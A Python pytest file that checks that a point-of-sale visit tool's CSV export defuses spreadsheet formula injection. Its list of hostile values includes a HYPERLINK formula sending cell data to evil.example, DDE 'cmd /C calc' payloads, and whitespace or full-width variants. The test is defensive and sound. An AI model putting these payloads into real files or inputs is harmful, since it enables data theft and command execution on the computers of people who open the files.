"""No cell of a CSV export is a formula a spreadsheet would run (OWASP "CSV Injection").

The hostile values are written into the store file by hand, as someone with the share
could: input checks (which strip a leading tab, say) are not what keeps an export safe.
"""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from pos_tui.cli import main
from pos_tui.domain.checklist import Checklist
from pos_tui.domain.session import Outcome, Session
from pos_tui.domain.visit_info import VisitInfo
from pos_tui.reports.export import spreadsheet_cell
from pos_tui.store.local import LocalStore
from pos_tui.store.sync import sync
from tests.helpers.visits import save_answer, save_sign

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u3000=1+1",  # an ideographic space, as a Chinese IME types it
    "\u200b=1+1",  # a zero-width space
    "＝1+1",  # full-width: some spreadsheets read it as "="
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
]


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula: told independently of the
    export's own function, so the test does not grade its own homework. A plain number
    is read as that number, which is no formula."""
    if not cell or cell.startswith("'") or re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell):
        return False
    if cell[0] in "\t\r":
        return True
    first = cell.lstrip(" \t\r\n\u3000\u200b\u200c\u200d\u2060\ufeff\xa0")[:1]
    return bool(first) and unicodedata.normalize("NFKC", first)[0] in "=+-@"


def hand_edit(path: Path, change: Any) -> None:
    document = json.loads(path.read_text("utf-8"))
    change(document)
    path.write_text(json.dumps(document, ensure_ascii=False), "utf-8")


@pytest.fixture
def exported(tmp_path: Path, info: VisitInfo, checklists: list[Checklist]) -> list[list[str]]:
    """Every free-text field of several visits hostile, synced, reviewed, exported."""
    shared = tmp_path / "shared"
    shared.mkdir()
    with LocalStore.open(tmp_path / "data") as store:
        uuids = []
        for _ in range(len(HOSTILE)):
            session = Session.start(info, checklists)
            store.create(session)
            values = {"reference": "202503040001", "amount": "0.01", "last4": "1111"}
            save_answer(store, session, "card", "chip-pin", Outcome.PASS, "ok", values)
            save_answer(store, session, "card", "void", Outcome.FAIL, note="没有小票")
            save_sign(store, session, info.technician, "王老板")
            uuids.append(session.uuid)
        for uuid, bad in zip(uuids, HOSTILE, strict=True):

            def poison(document: dict[str, Any], bad: str = bad) -> None:
                [visit] = document["visit"].values()
                for key in ("merchant_name", "merchant_number", "terminal_number"):
                    visit["info"][key] = bad
                for key in ("terminal_serial", "model", "technician", "job_type", "notes"):
                    visit["info"][key] = bad
                for answer in visit["answers"]:
                    answer["note"] = bad
                    answer["values"] = {key: bad for key in answer["values"]}
                visit["answers"][-1]["values"] = {bad: "1"}  # a hostile field id too
                visit["answers"].append(
                    visit["answers"][0] | {"item_id": "shield", "note": "-12.5", "values": {}}
                )

            hand_edit(store.visit_path(uuid), poison)
        sync(store, shared, create=True)
    # Written by hand into the decision log, as someone with the share could: not signed,
    # so never counted, but exported (as forged) for the supervisor to see.
    reviews = shared / "reviews.json"
    table = {
        str(n): {"id": f"{n:032x}", "uuid": uuid, "decision": bad, "comment": bad, "reviewer": bad}
        for n, (uuid, bad) in enumerate(zip(uuids, HOSTILE, strict=True), start=1)
    }
    reviews.write_text(json.dumps({"reviews": table}, ensure_ascii=False), "utf-8")
    out = tmp_path / "visits.csv"
    args = ["export", "--store", str(shared), "--format", "csv", "--out", str(out)]
    done = CliRunner().invoke(main, args)
    assert done.exit_code == 0, done.output
    with open(out, encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert len({row[0] for row in rows[1:]}) == len(HOSTILE), "every visit exported"
    return rows


def test_no_cell_of_a_real_export_would_be_evaluated(exported: list[list[str]]) -> None:
    dangerous = [(n, cell) for n, row in enumerate(exported) for cell in row if evaluated(cell)]
    assert dangerous == []


def test_hostile_text_stays_visible_behind_one_quote(exported: list[list[str]]) -> None:
    head, *rows = exported
    columns = {name: head.index(name) for name in head}
    free_text = [
        "merchant_name",
        "merchant_number",
        "terminal_number",
        "terminal_serial",
        "model",
        "technician",
        "job_type",
        "forged_decision",
        "forged_reviewer",
        "forged_comment",
    ]
    seen: dict[str, set[str]] = {name: set() for name in [*free_text, "note", "values"]}
    for row in rows:
        for name in seen:
            seen[name].add(row[columns[name]])
    for name in free_text:
        assert seen[name] == {"'" + bad for bad in HOSTILE}, name
    assert {"'" + bad for bad in HOSTILE} <= seen["note"]
    for bad in HOSTILE:  # the hostile field id leads its cell
        assert f"'{bad}=1" in seen["values"]
    assert "-12.5" in seen["note"]  # a plain negative number stays a number


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("  @SUM(A1)", "'  @SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r", "'\r"),
        ("\t", "'\t"),
        ("＝1", "'＝1"),
        ("﹢1", "'﹢1"),
        ("\ufeff-1+1", "'\ufeff-1+1"),
        ("-", "'-"),
        ("+5", "'+5"),
        ("-12.5", "-12.5"),
        ("-3", "-3"),
        ("0.01", "0.01"),
        ("2025-03-04", "2025-03-04"),
        ("a=1; b=2", "a=1; b=2"),
        ("上海老王面馆", "上海老王面馆"),
        ("", ""),
    ],
)
def test_one_function_decides_every_cell(value: str, cell: str) -> None:
    assert spreadsheet_cell(value) == cell
    assert not evaluated(cell)
